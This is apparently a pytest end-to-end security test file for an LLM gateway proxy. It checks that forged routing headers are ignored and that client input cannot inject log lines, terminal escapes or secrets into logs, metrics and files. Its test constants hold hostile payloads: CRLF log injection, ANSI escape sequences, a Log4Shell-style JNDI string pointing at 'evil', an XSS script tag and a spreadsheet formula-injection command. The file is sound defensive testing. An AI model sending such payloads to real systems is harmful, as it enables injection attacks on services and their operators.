"""Words of clients, through a real proxy: forged headers and decisions, and what tries to be more than text in log lines,
rows, metrics and on terminals."""

from __future__ import annotations

import asyncio
import json
import re
from typing import Any
from uuid import UUID, uuid4

import asyncpg
import pytest

from attacks.proxied import PATHS, Proxy, ask, post
from bsgateway.rows import MAX_NAME
from e2e.gateways import KEY, PROVIDER_KEY
from e2e.records import until
from e2e.test_secrecy import holding, other_files, state_files

FORGED_ID = "00000000-0000-7000-8000-000000000000"
FORGED = {
    "x-bsgateway-decision-id": FORGED_ID,
    **{f"x-bsgateway-{name}": "forged" for name in ("model", "score", "strategy", "method", "reason", "would-use")},
}
MARKER = f"confidential-{uuid4().hex}"
BREAK = f'{MARKER}\r\n{{"level": "error", "event": "forged"}}\r\nready: http://evil \x1b[2J\x1b]0;owned\x07\u202e\x9b31m\x7f'
"""A line of its own, a cleared screen, a title, text that runs backwards, a colour of eight bits."""
ASCII = f"{MARKER} %0d%0a {{0}} %s ${{jndi:ldap://evil}} </script><script>alert(1)</script> =cmd|' /C calc'!A1"
"""What a header may hold."""
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


async def test_forged_headers_are_not_echoed_nor_believed(proxy: Proxy) -> None:
    for endpoint in PATHS:
        plain, _ = await ask(proxy, "auto", endpoint)
        forged, _ = await ask(proxy, "auto", endpoint, headers=FORGED)
        assert "forged" not in str(forged.headers)
        assert UUID(forged.headers["x-bsgateway-decision-id"]) != UUID(FORGED_ID)
        said = [
            {name: value for name, value in answer.headers.items() if name.startswith("x-bsgateway-")}
            for answer in (plain, forged)
        ]
        for each in said:
            del each["x-bsgateway-decision-id"]
        assert said[0] == said[1]


BODIES: dict[str, dict[str, Any]] = {
    "model": {"model": BREAK},
    "user": {"user": BREAK},
    "metadata": {"metadata": {"user_id": BREAK, "session_id": BREAK, "tags": [BREAK], BREAK: BREAK}},
    "session": {"litellm_session_id": BREAK, "litellm_trace_id": BREAK, "litellm_call_id": BREAK},
    "metadata of ours": {"metadata": {"bsgateway_tier": BREAK, "bsgateway_bias": BREAK}},
    "words": {"messages": [{"role": "user", "content": BREAK}]},
    "tools": {"tools": [{"type": "function", "function": {"name": BREAK, "parameters": {BREAK: BREAK}}}]},
}
HEADERS = ("user-agent", "x-litellm-session-id", "x-session-id", "session-id", "x-litellm-trace-id", "x-litellm-tags",
           "x-bsgateway-tier", "x-bsgateway-bias", "x-bsgateway-source", "x-litellm-customer-id", "x-forwarded-for")  # fmt: skip


async def sent(proxy: Proxy) -> None:
    """All of that is sent, and the rows of it are written."""
    for endpoint in PATHS:
        for extra in BODIES.values():
            await ask(proxy, extra.get("model", "auto"), endpoint, **{k: v for k, v in extra.items() if k != "model"})
    for number, name in enumerate(HEADERS):
        await ask(proxy, "auto", [*PATHS][number % 3], headers={name: ASCII})
    last, _ = await ask(proxy)
    connection = await asyncpg.connect(proxy.gateway.dsn)

    async def written() -> bool:
        of_last = UUID(last.headers["x-bsgateway-decision-id"])
        query = "SELECT count(*) = 1 FROM routing_outcomes WHERE decision_id = $1"
        return bool(await connection.fetchval(query, of_last))

    await until("the last row", written)
    await connection.close()


@pytest.fixture(scope="module")
def told(proxy: Proxy) -> list[str]:
    """What the gateway says meanwhile."""
    before = len(proxy.gateway.said())
    asyncio.run(sent(proxy))
    return proxy.gateway.said()[before:].splitlines()


async def test_a_log_line_is_one_json_object(told: list[str]) -> None:
    ours = [line for line in told if '"logger"' in line]
    assert ours, "at this level every decision is said"
    for line in ours:
        said = json.loads(line)
        assert said["event"] != "forged"
        assert line.isascii()
        assert line.isprintable()


async def test_nothing_of_a_client_is_in_the_output(told: list[str]) -> None:
    assert told
    assert not [line for line in told if CONTROL.search(line)]
    assert not [line for line in told if line.startswith(("ready:", '{"level"'))]
    assert not [line for line in told if MARKER in line]


async def test_names_are_in_the_log_as_they_are(proxy: Proxy, told: list[str]) -> None:
    """But cut, and without NUL: what reads them has to show them as text."""
    connection = await asyncpg.connect(proxy.gateway.dsn)
    found = await connection.fetch("SELECT original_model, user_agent, session_id, end_user FROM routing_logs")
    await connection.close()
    said = {value for row in found for value in row.values() if value is not None}
    assert {BREAK, ASCII} <= said
    assert max(map(len, said)) <= MAX_NAME


async def test_metrics_name_no_client(proxy: Proxy, told: list[str]) -> None:
    answer = await post(proxy, "/bsgateway/metrics", "admin", method="GET")
    assert answer.status_code == 200
    assert "bsgateway_decisions" in answer.text
    for secret in (MARKER, "sk-key", PROVIDER_KEY, KEY, "free-for-all"):
        assert secret not in answer.text


async def test_no_secret_is_in_what_the_gateway_writes(proxy: Proxy, told: list[str]) -> None:
    files = [*other_files(proxy.gateway), proxy.gateway.output]
    for secret in (MARKER, KEY, PROVIDER_KEY, "sk-key-"):
        assert holding(secret, files) == []
    assert holding(KEY, state_files(proxy.gateway)) == []
